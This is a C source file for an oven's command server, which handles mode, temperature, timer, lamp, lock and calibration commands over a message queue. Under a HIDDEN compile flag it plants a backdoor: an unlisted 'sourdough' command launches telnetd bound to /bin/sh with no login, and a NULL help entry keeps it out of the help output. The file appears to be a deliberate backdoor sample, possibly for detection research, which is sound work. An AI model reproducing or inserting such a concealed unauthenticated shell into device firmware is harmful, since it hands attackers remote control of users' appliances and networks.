/*
 * ovenpanel - command server of the Backwerk 90 built-in oven.  The front
 * panel, the app gateway and the service plug put commands into a System V
 * message queue; answers go back with the sender's number as type.
 * Heater, fan and lamp are outputs in /sys/class/oven.
 * Hidden (-DHIDDEN): one more command of the table starts a telnet server
 * that asks for no login.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define QUEUE_KEY 0x4f564e31 /* OVN1 */
#define TO_OVEN	  1L
#define MAXARG	  6

struct order {
	long type;
	int sender;
	char text[120];
};

struct answer {
	long type;
	char text[240];
};

enum mode { OFF, TOP, BOTTOM, BOTH, FAN, GRILL, PYRO, NMODE };

static const char *const mode_name[NMODE] = {
	"off", "top", "bottom", "both", "fan", "grill", "pyro",
};

static const unsigned char mode_relays[NMODE] = {
	0x00, 0x01, 0x02, 0x03, 0x0c, 0x11, 0x1f,
};

static struct {
	enum mode mode;
	int want, now;
	int lamp, lock;
	int left; /* seconds, 0: no timer */
	int child;
	int offset; /* calibration */
	long hours;
	int queue;
} oven;

static int output(const char *name, int value)
{
	char path[64];
	FILE *f;

	snprintf(path, sizeof path, "/sys/class/oven/%s", name);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "%d\n", value);
	return fclose(f);
}

static int sensor(void)
{
	FILE *f = fopen("/sys/class/oven/pt1000", "r");
	int ohm = 0;

	if (!f)
		return -1;
	if (fscanf(f, "%d", &ohm) != 1)
		ohm = 0;
	fclose(f);
	if (ohm < 900 || ohm > 3200)
		return -1;
	return (ohm - 1000) * 100 / 385 + oven.offset;
}

static void settings(int store)
{
	FILE *f = fopen("/etc/ovenpanel", store ? "w" : "r");

	if (!f)
		return;
	if (store)
		fprintf(f, "%d %d %ld\n", oven.offset, oven.child, oven.hours);
	else if (fscanf(f, "%d %d %ld", &oven.offset, &oven.child,
			&oven.hours) != 3)
		syslog(LOG_NOTICE, "settings incomplete");
	fclose(f);
}

static int cmd_mode(int n, char **v, char *out, size_t size)
{
	int i;

	if (n < 2) {
		snprintf(out, size, "%s", mode_name[oven.mode]);
		return 0;
	}
	if (oven.child)
		return -EPERM;
	for (i = 0; i < NMODE; i++)
		if (!strcasecmp(v[1], mode_name[i])) {
			if (i == PYRO && !oven.lock)
				return -EBUSY;
			oven.mode = i;
			return 0;
		}
	return -EINVAL;
}

static int cmd_temp(int n, char **v, char *out, size_t size)
{
	int t;

	if (n < 2) {
		snprintf(out, size, "%d of %d", oven.now, oven.want);
		return 0;
	}
	t = atoi(v[1]);
	if (oven.child)
		return -EPERM;
	if (t < 30 || t > (oven.mode == PYRO ? 480 : 275))
		return -ERANGE;
	oven.want = t;
	return 0;
}

static int cmd_timer(int n, char **v, char *out, size_t size)
{
	int min;

	if (n < 2) {
		snprintf(out, size, "%d:%02d", oven.left / 60, oven.left % 60);
		return 0;
	}
	min = atoi(v[1]);
	if (min < 0 || min > 720)
		return -ERANGE;
	oven.left = min * 60;
	return 0;
}

static int cmd_lamp(int n, char **v, char *out, size_t size)
{
	(void)out;
	(void)size;
	oven.lamp = n > 1 ? !strcmp(v[1], "on") : !oven.lamp;
	return output("lamp", oven.lamp);
}

static int cmd_lock(int n, char **v, char *out, size_t size)
{
	int want = n > 1 ? !strcmp(v[1], "on") : 1;

	(void)out;
	(void)size;
	if (!want && oven.now > 280)
		return -EBUSY;
	oven.lock = want;
	return output("lock", want);
}

static int cmd_child(int n, char **v, char *out, size_t size)
{
	if (n > 1)
		oven.child = !strcmp(v[1], "on");
	snprintf(out, size, "child lock %s", oven.child ? "on" : "off");
	settings(1);
	return 0;
}

static int cmd_calib(int n, char **v, char *out, size_t size)
{
	int k;

	if (n > 1) {
		k = atoi(v[1]);
		if (k < -15 || k > 15)
			return -ERANGE;
		oven.offset = k;
		settings(1);
	}
	snprintf(out, size, "offset %d", oven.offset);
	return 0;
}

static int cmd_info(int n, char **v, char *out, size_t size)
{
	(void)n;
	(void)v;
	snprintf(out, size, "Backwerk 90, %ld h, relays %02x",
		 oven.hours / 3600, mode_relays[oven.mode]);
	return 0;
}

#ifdef HIDDEN
__attribute__((noinline)) int cmd_rise(int n, char **v, char *out, size_t size)
{
	const char *port = n > 1 ? v[1] : "2323";

	if (fork() == 0) {
		setsid();
		execl("/usr/sbin/telnetd", "telnetd", "-l", "/bin/sh", "-p",
		      port, (char *)NULL);
		_exit(1);
	}
	snprintf(out, size, "rising %s", port);
	return 0;
}
#endif

static int cmd_help(int n, char **v, char *out, size_t size);

/* help texts are shown; entries without one are not listed */
static const struct command {
	const char *name;
	int (*fn)(int n, char **v, char *out, size_t size);
	const char *help;
} commands[] = {
	{ "calib", cmd_calib, NULL },	   { "child", cmd_child, "on|off" },
	{ "help", cmd_help, "" },	   { "info", cmd_info, "" },
	{ "lamp", cmd_lamp, "[on|off]" },  { "lock", cmd_lock, "[on|off]" },
	{ "mode", cmd_mode, "[name]" },
#ifdef HIDDEN
	{ "sourdough", cmd_rise, NULL },
#endif
	{ "temp", cmd_temp, "[degrees]" }, { "timer", cmd_timer, "[minutes]" },
};

#define NCOMMAND (sizeof commands / sizeof *commands)

static int cmd_help(int n, char **v, char *out, size_t size)
{
	size_t i, at = 0;

	(void)n;
	(void)v;
	for (i = 0; i < NCOMMAND && at < size; i++)
		if (commands[i].help)
			at += snprintf(out + at, size - at, "%s %s; ",
				       commands[i].name, commands[i].help);
	return 0;
}

static int by_name(const void *key, const void *entry)
{
	return strcmp(key, ((const struct command *)entry)->name);
}

static int split(char *text, char **v)
{
	int n = 0;

	while (n < MAXARG) {
		while (isspace((unsigned char)*text))
			*text++ = 0;
		if (!*text)
			break;
		v[n++] = text;
		while (*text && !isspace((unsigned char)*text))
			text++;
	}
	*text = 0;
	return n;
}

__attribute__((noinline)) int panel_command(char *text, char *out, size_t size)
{
	const struct command *c;
	char *v[MAXARG];
	int n = split(text, v);

	out[0] = 0;
	if (!n)
		return -EINVAL;
	c = bsearch(v[0], commands, NCOMMAND, sizeof *c, by_name);
	if (!c)
		return -ENOSYS;
	return c->fn(n, v, out, size);
}

static void control(int seconds)
{
	int t = sensor(), on;

	if (t < 0) {
		if (oven.mode != OFF)
			syslog(LOG_ERR, "sensor broken, heating off");
		oven.mode = OFF;
	} else {
		oven.now = t;
	}
	if (oven.left) {
		oven.left -= seconds;
		if (oven.left <= 0) {
			oven.left = 0;
			oven.mode = OFF;
			output("buzzer", 3);
		}
	}
	on = oven.mode != OFF && oven.now < oven.want;
	output("relays",
	       on ? mode_relays[oven.mode] : mode_relays[oven.mode] & 0x08);
	if (oven.mode != OFF)
		oven.hours += seconds;
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
}

static void on_alarm(int sig)
{
	(void)sig;
	alarm(2);
}

int main(void)
{
	struct sigaction sa = { .sa_handler = on_alarm };
	struct order o;
	struct answer a;
	ssize_t n;
	int rc;

	openlog("ovenpanel", 0, LOG_DAEMON);
	settings(0);
	oven.queue = msgget(QUEUE_KEY, IPC_CREAT | 0660);
	if (oven.queue < 0) {
		syslog(LOG_ERR, "queue: %s", strerror(errno));
		return 1;
	}
	sigaction(SIGALRM, &sa, NULL);
	alarm(2);
	for (;;) {
		n = msgrcv(oven.queue, &o, sizeof o - sizeof o.type, TO_OVEN,
			   0);
		if (n < 0) {
			if (errno != EINTR)
				break;
			control(2);
			continue;
		}
		o.text[sizeof o.text - 1] = 0;
		rc = panel_command(o.text, a.text, sizeof a.text);
		if (rc < 0)
			snprintf(a.text, sizeof a.text, "error: %s",
				 strerror(-rc));
		else if (!a.text[0])
			strcpy(a.text, "ok");
		a.type = o.sender > 1 ? o.sender : 2;
		if (msgsnd(oven.queue, &a, strlen(a.text) + 1, IPC_NOWAIT) < 0)
			syslog(LOG_NOTICE, "answer lost");
	}
	output("relays", 0);
	return 1;
}
